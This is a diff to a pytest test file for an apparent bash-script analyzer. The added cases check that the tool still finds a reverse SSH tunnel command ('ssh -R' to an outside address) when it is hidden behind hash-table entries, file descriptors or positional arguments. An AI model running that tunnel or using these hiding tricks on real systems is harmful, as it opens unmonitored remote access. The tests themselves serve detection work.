@@ -16,6 +16,7 @@ LINE = "ssh -R 1:h:22 b@203.0.113.9"
         "if [ -e x ]; then ssh() { :; }; fi",
         "[ -e x ] && ssh() { :; }",
         "shopt -s expand_aliases\nif [ -e x ]; then alias ssh=:; fi",
+        "if [ -e x ]; then hash -p /bin/true ssh; fi",
         "exit >/nonexistent/x",
         "{ exit; } <x",
         "exec 2>&-\nexit >&2",
@@ -70,3 +71,19 @@ def test_a_handler_that_leaves_commands_out_is_a_gap() -> None:
     assert read(f"{trap}\nshopt -s extdebug\nexit\n{COMMAND}").gaps
     assert not read(f"{trap}\nls").gaps
     assert not read("shopt -s extdebug\ntrap 'rm x' EXIT\ndeclare -F f").gaps
+
+
+@pytest.mark.parametrize(
+    "one, other, then",
+    [
+        (f"exec 3< <(echo {COMMAND})", "exec 3</dev/null", "bash <&3"),
+        (f"set -- {COMMAND}", "set -- ls", '"$@"'),
+        (f"set -- '{COMMAND}' x", ":", 'bash -c "$1"'),
+        ("hash -p /usr/bin/ssh foo", "hash -p /bin/ls foo", COMMAND.replace("ssh", "foo", 1)),
+    ],
+)
+def test_what_either_way_opens_or_gives_is_there(one: str, other: str, then: str) -> None:
+    """Descriptors, arguments and remembered places, whichever branch comes first."""
+    for first, second in ((one, other), (other, one)):
+        found = lines(f"if [ -e x ]; then {first}; else {second}; fi\n{then}")
+        assert any(line.startswith(LINE) for line in found), found
